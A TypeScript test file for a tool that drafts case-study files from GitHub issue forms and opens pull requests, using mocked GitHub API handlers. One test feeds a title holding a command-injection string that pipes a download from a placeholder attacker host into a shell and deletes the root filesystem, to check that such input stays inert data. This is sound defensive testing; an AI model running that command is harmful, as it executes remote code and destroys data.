import { readFileSync } from 'node:fs';
import { http, HttpResponse } from 'msw';
import { setupServer } from 'msw/node';
import { parse } from 'yaml';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { formatDiagnostic } from '../../src/lib/diagnostics.ts';
import { readThemes } from '../../src/lib/safe-yaml.ts';
import { createOctokit } from '../../scripts/lib/github/octokit.ts';
import { caseFromIssue, FORM_FIELDS, parseIssueForm } from '../../scripts/lib/intake/issue-form.ts';
import { submitCase } from '../../scripts/lib/intake/submit-case.ts';
import { listContentFiles, loadContext } from '../../scripts/lib/validate/load.ts';
import { validateFile } from '../../scripts/lib/validate/validate-file.ts';

const themes = readThemes();

/** An issue body as GitHub renders the submit-case form. */
function formBody(values: Partial<Record<keyof typeof FORM_FIELDS, string>> = {}): string {
  const filled: Record<keyof typeof FORM_FIELDS, string> = {
    title: '秦都区街道政协工作联络组',
    region: '610402',
    organization: '秦都区政协',
    year: '2023',
    themes: '基层协商平台, 社情民意',
    summary: '在街道设立政协工作联络组和社情民意信息工作站。',
    background: '基层协商缺少固定平台。',
    practice: '出台意见，在街道设立政协工作联络组。\n\n设立社情民意信息工作站。',
    results: '健全了基层协商平台化的工作格局。',
    sources: 'reports/2023/qindu',
    ...values,
  };
  return (Object.keys(FORM_FIELDS) as (keyof typeof FORM_FIELDS)[]).map((k) => `### ${FORM_FIELDS[k]}\n\n${filled[k] || '_No response_'}`).join('\n\n');
}

describe('caseFromIssue', () => {
  test('drafts a case file that passes the validator', () => {
    const draft = caseFromIssue(formBody(), 42, themes);
    if (Array.isArray(draft)) throw new Error(draft.map(formatDiagnostic).join('\n'));
    expect(draft.path).toBe('content/cases/2023/qindu-issue-42.md');
    const context = loadContext(process.cwd(), listContentFiles(process.cwd()));
    const problems = validateFile({ file: draft.path, bytes: new TextEncoder().encode(draft.content), isSymlink: false }, context);
    expect(problems.map(formatDiagnostic)).toEqual([]);
  });

  test('keeps hostile text as inert data in the YAML', () => {
    const title = '$(curl evil.example | sh)"; rm -rf / #';
    const draft = caseFromIssue(formBody({ title, summary: '---js\n{}\n---' }), 1, themes);
    if (Array.isArray(draft)) throw new Error('unexpected');
    const yaml = draft.content.split('---\n')[1] ?? '';
    expect((parse(yaml) as { title: string; summary: string }).title).toBe(title);
    expect(draft.content.startsWith('---\ntitle:')).toBe(true);
  });

  test('names each missing field', () => {
    const result = caseFromIssue(formBody({ results: '', region: '' }), 3, themes);
    expect(Array.isArray(result) && result.map((d) => d.message)).toEqual(['表单中“行政区划代码”没有填写', '表单中“成效”没有填写']);
  });

  test('the form offers exactly the themes of the vocabulary', () => {
    const form = parse(readFileSync('.github/ISSUE_TEMPLATE/submit-case.yml', 'utf8')) as { body: { id?: string; attributes: { label?: string; options?: string[] } }[] };
    expect(form.body.find((b) => b.id === 'themes')?.attributes.options).toEqual(themes.map((t) => t.name));
    expect(form.body.filter((b) => b.id).map((b) => b.attributes.label)).toEqual(Object.values(FORM_FIELDS));
    expect(parseIssueForm(formBody()).size).toBe(Object.keys(FORM_FIELDS).length);
  });
});

describe('submitCase', () => {
  const API = 'https://api.github.test';
  const repo = { owner: 'casebook', repo: 'casebook' };
  const base = `${API}/repos/casebook/casebook`;
  let state: { branches: Set<string>; files: Map<string, string>; pulls: { number: number; body: string }[]; comments: { id: number; body: string }[]; calls: string[] };

  const server = setupServer(
    http.get(`${base}/git/ref/*`, ({ request }) => {
      const ref = decodeURIComponent(new URL(request.url).pathname.split('/git/ref/')[1] ?? '').replace(/^heads\//, '');
      return state.branches.has(ref) ? HttpResponse.json({ object: { sha: 'b'.repeat(40) } }) : HttpResponse.json({ message: 'Not Found' }, { status: 404 });
    }),
    http.post(`${base}/git/refs`, async ({ request }) => {
      const { ref } = (await request.json()) as { ref: string };
      state.branches.add(ref.replace('refs/heads/', ''));
      state.calls.push(`create ${ref}`);
      return HttpResponse.json({}, { status: 201 });
    }),
    http.get(`${base}/contents/*`, ({ request }) => {
      const path = decodeURIComponent(new URL(request.url).pathname.split('/contents/')[1] ?? '');
      return state.files.has(path) ? HttpResponse.json({ sha: 'f'.repeat(40), type: 'file' }) : HttpResponse.json({ message: 'Not Found' }, { status: 404 });
    }),
    http.put(`${base}/contents/*`, async ({ request }) => {
      const path = decodeURIComponent(new URL(request.url).pathname.split('/contents/')[1] ?? '');
      const body = (await request.json()) as { content: string; sha?: string };
      state.files.set(path, Buffer.from(body.content, 'base64').toString('utf8'));
      state.calls.push(body.sha ? `update ${path}` : `create ${path}`);
      return HttpResponse.json({ content: {} });
    }),
    http.get(`${base}/pulls`, () => HttpResponse.json(state.pulls)),
    http.post(`${base}/pulls`, async ({ request }) => {
      const { body } = (await request.json()) as { body: string };
      state.pulls.push({ number: 50, body });
      state.calls.push('open pull request');
      return HttpResponse.json({ number: 50, html_url: 'https://github.test/pull/50' }, { status: 201 });
    }),
    http.patch(`${base}/pulls/:n`, async ({ params, request }) => {
      const { body } = (await request.json()) as { body: string };
      state.calls.push(`update pull request ${params['n']}`);
      return HttpResponse.json({ number: Number(params['n']), html_url: `https://github.test/pull/${params['n']}`, body });
    }),
    http.get(`${base}/issues/:n/comments`, () => HttpResponse.json(state.comments.map((c) => ({ ...c, user: { type: 'Bot' } })))),
    http.post(`${base}/issues/:n/comments`, async ({ request }) => {
      const { body } = (await request.json()) as { body: string };
      state.comments.push({ id: state.comments.length + 1, body });
      state.calls.push('comment');
      return HttpResponse.json({}, { status: 201 });
    }),
    http.patch(`${base}/issues/comments/:id`, () => {
      state.calls.push('update comment');
      return HttpResponse.json({});
    }),
  );
  beforeAll(() => server.listen({ onUnhandledRequest: 'error' }));
  afterEach(() => server.resetHandlers());
  afterAll(() => server.close());
  beforeEach(() => {
    state = { branches: new Set(['main']), files: new Map(), pulls: [], comments: [], calls: [] };
  });

  const github = createOctokit('t', API);
  const draft = caseFromIssue(formBody(), 42, themes);
  if (Array.isArray(draft)) throw new Error('bad fixture');
  const submission = { issue: 42, title: draft.title, draft, problems: [], defaultBranch: 'main' };

  test('opens a branch, the file and a pull request, and answers on the issue', async () => {
    const result = await submitCase(github, repo, submission);
    expect(result).toEqual({ pullRequest: 50, url: 'https://github.test/pull/50', created: true });
    expect(state.calls).toEqual(['create refs/heads/case/issue-42', `create ${draft.path}`, 'open pull request', 'comment']);
    expect(state.files.get(draft.path)).toBe(draft.content);
    expect(state.pulls[0]?.body).toContain('Closes #42');
  });

  test('on an edited issue updates the same branch, file, pull request and comment', async () => {
    await submitCase(github, repo, submission);
    state.calls = [];
    await submitCase(github, repo, submission);
    expect(state.calls).toEqual([`update ${draft.path}`, 'update pull request 50', 'update comment']);
  });
});
